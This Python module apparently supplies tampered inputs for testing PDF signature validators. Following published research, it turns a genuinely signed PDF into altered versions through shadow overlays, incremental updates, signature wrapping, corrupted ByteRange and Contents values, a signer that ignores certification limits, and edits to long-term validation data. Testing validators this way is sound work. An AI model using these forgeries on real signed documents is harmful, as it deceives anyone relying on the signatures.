"""Attacks on a signed PDF: each takes the genuine file and gives one that says more or something else, and that many readers call valid.

After Mladenov et al., “1 Trillion Dollar Refund” (2019): universal forgery, incremental saving, signature wrapping; Mainka et al., “Shadow Attacks” (2021).
"""

import io
import re
from collections.abc import Callable

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers

Attack = Callable[[bytes], bytes]
RANGE = re.compile(rb"/ByteRange ?\[ ?(\d+) (\d+) (\d+) (\d+) ?\]")
LAST_PLACE = re.compile(rb"startxref\n(\d+)\n%%EOF")


def appended_comment(pdf: bytes) -> bytes:
    return pdf + b"\n% nothing to see\n"


def appended_end(pdf: bytes) -> bytes:
    """As if the file ended once more: a reader that looks from the end finds the same table."""
    place = LAST_PLACE.findall(pdf)[-1]
    return pdf + b"hidden\nstartxref\n" + place + b"\n%%EOF\n"


def appended_space(pdf: bytes) -> bytes:
    return pdf + b"\n"


def _updated(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], object]) -> bytes:
    writer, out = IncrementalPdfFileWriter(io.BytesIO(pdf)), io.BytesIO()
    change(writer)
    writer.write(out)
    return out.getvalue()


def saved_incrementally(pdf: bytes) -> bytes:
    return _updated(pdf, lambda writer: writer.update_root())


def retitled(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.document_meta.title = "another"
        writer.update_root()

    return _updated(pdf, change)


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0]


def shadow_annotation(pdf: bytes) -> bytes:
    """A white box with other words over the genuine ones."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        box = [generic.NumberObject(number) for number in (50, 50, 400, 700)]
        said = {"/Type": generic.NameObject("/Annot"), "/Subtype": generic.NameObject("/FreeText"), "/Rect": generic.ArrayObject(box)}
        note = generic.DictionaryObject({generic.NameObject(name): value for name, value in said.items()})
        note["/Contents"] = generic.TextStringObject("另一个人")
        page = _page(writer)
        page["/Annots"] = generic.ArrayObject([*page.get("/Annots", []), writer.add_object(note)])
        writer.update_container(page)

    return _updated(pdf, change)


def shadow_content(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b"1 1 1 rg 0 0 600 800 re f"))
        writer.update_container(page)

    return _updated(pdf, change)


def saved_anew(pdf: bytes) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        opened.save(out)
    return out.getvalue()


def wrapped(pdf: bytes) -> bytes:
    """The second signed part is moved back, and other content put into the gap that no byte range covers."""
    found = RANGE.search(pdf)
    start, first, second, length = map(int, found.groups())
    gap = b"\n9999 0 obj\n<< /Other true >>\nendobj\n"
    named = b"/ByteRange [%d %d %d %d]" % (start, first, second + len(gap), length)
    head = pdf[: found.start()] + named.ljust(len(found[0])) + pdf[found.end() : second]
    return head + gap + pdf[second:]


def empty_contents(pdf: bytes) -> bytes:
    start = pdf.index(b"/Contents <", RANGE.search(pdf).start() - 40000) + 10
    end = pdf.index(b">", start)
    return pdf[:start] + b"<>".ljust(end + 1 - start) + pdf[end + 1 :]


def zero_contents(pdf: bytes) -> bytes:
    start = pdf.index(b"/Contents <") + 11
    end = pdf.index(b">", start)
    return pdf[:start] + b"0" * (end - start) + pdf[end:]


def zero_range(pdf: bytes) -> bytes:
    found = RANGE.search(pdf)
    return pdf[: found.start()] + b"/ByteRange [0 0 0 0]".ljust(len(found[0])) + pdf[found.end() :]


def no_range(pdf: bytes) -> bytes:
    found = RANGE.search(pdf)
    return pdf[: found.start()] + b" " * len(found[0]) + pdf[found.end() :]


def negative_range(pdf: bytes) -> bytes:
    found = RANGE.search(pdf)
    return pdf[: found.start()] + b"/ByteRange [0 -1 0 -1]".ljust(len(found[0])) + pdf[found.end() :]


def gap_digit(pdf: bytes) -> bytes:
    """One digit in the padding after the signature."""
    end = pdf.index(b">", pdf.index(b"/Contents <") + 11)
    return pdf[: end - 10] + b"1" + pdf[end - 9 :]


def flipped_bit(pdf: bytes) -> bytes:
    place = pdf.index(b"stream", len(pdf) // 2) + 20
    return pdf[:place] + bytes([pdf[place] ^ 1]) + pdf[place + 1 :]


def another_title_page(pdf: bytes) -> bytes:
    """The last table names another object as the document's information."""
    found = list(re.finditer(rb"/Info (\d+) 0 R", pdf))[-1]
    return pdf[: found.start(1)] + str(int(found[1]) - 1).encode() + pdf[found.end(1) :]


class _Heedless(signers.PdfSigner):
    """Signs a file that its author allowed no change of."""

    def _enforce_certification_constraints(self, reader: object) -> None:
        """Nothing."""


def signed_twice(signer: signers.Signer) -> Attack:
    """A second signature by somebody who has a seal of ours."""

    def attack(pdf: bytes) -> bytes:
        out = io.BytesIO()
        again = signers.PdfSignatureMetadata(field_name="Second", md_algorithm="sha256", subfilter=fields.SigSeedSubFilter.PADES)
        writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
        _Heedless(again, signer).sign_pdf(writer, output=out)
        return out.getvalue()

    return attack


ATTACKS: tuple[Attack, ...] = (
    appended_comment, appended_end, appended_space, saved_incrementally, retitled, shadow_annotation, shadow_content, saved_anew,
    wrapped, empty_contents, zero_contents, zero_range, no_range, negative_range, another_title_page, flipped_bit,
)  # fmt: skip


# --- on the validation data that follows a B-LT signature ---------------------------------------------------------


def _end_of_signed(pdf: bytes) -> int:
    _start, _first, second, length = map(int, RANGE.search(pdf).groups())
    return second + length


def without_validation_data(pdf: bytes) -> bytes:
    """What is left is a sound B-T file: not an attack, but not the file that was issued."""
    return pdf[: _end_of_signed(pdf)]


def _with_last_place(pdf: bytes, added: int) -> bytes:
    """The table at the end has moved by so many bytes; its own offsets are left as they are."""
    place = LAST_PLACE.findall(pdf)[-1]
    return pdf[: pdf.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % (int(place) + added)


def comment_before_table(pdf: bytes) -> bytes:
    """Words between the last object and the table: every offset in the table is still right."""
    table, words = int(LAST_PLACE.findall(pdf)[-1]), b"% hidden words\n"
    return _with_last_place(pdf[:table] + words + pdf[table:], len(words))


def object_before_table(pdf: bytes) -> bytes:
    """An object that no table knows."""
    table, words = int(LAST_PLACE.findall(pdf)[-1]), b"777 0 obj\n<<\n/Hidden (words)\n>>\nendobj\n"
    return _with_last_place(pdf[:table] + words + pdf[table:], len(words))


def comment_in_store(pdf: bytes) -> bytes:
    """Two spaces become a comment: no offset changes."""
    start = pdf.rindex(b"/CRLs [ ") + 6
    end = pdf.index(b" ]", start)
    return pdf[:start] + b"[" + pdf[start + 2 : end] + b"]%!" + pdf[end + 2 :]


def words_in_table(pdf: bytes) -> bytes:
    """The last object is the table itself: what is added to it moves nothing."""
    place = pdf.rindex(b"\n/Type /XRef")
    return pdf[:place] + b"\n/Hidden (words)" + pdf[place:]


def foreign_list(pdf: bytes) -> bytes:
    """The last revocation list of the store is no longer what its authority signed."""
    place = pdf.rindex(b"\nendstream\nendobj\n", 0, pdf.rindex(b"/CRLs ["))
    return pdf[: place - 1] + bytes([pdf[place - 1] ^ 1]) + pdf[place:]


def another_revision(pdf: bytes) -> bytes:
    """The store once more, in a revision of its own."""
    return _updated(pdf, lambda writer: writer.mark_update(writer.root.raw_get("/DSS").reference))


def stranger_in_store(pdf: bytes) -> bytes:
    """A stream of somebody's own among the certificates, as a revision that replaces the genuine one."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        stranger = writer.add_object(generic.StreamObject(stream_data=b"anything at all"))
        store = generic.DictionaryObject({generic.NameObject("/Certs"): generic.ArrayObject([stranger])})
        writer.root["/DSS"] = writer.add_object(store)
        writer.update_root()

    return _updated(without_validation_data(pdf), change)


ON_VALIDATION_DATA: tuple[Attack, ...] = (
    comment_before_table, object_before_table, words_in_table, comment_in_store, foreign_list, another_revision, stranger_in_store,
)  # fmt: skip
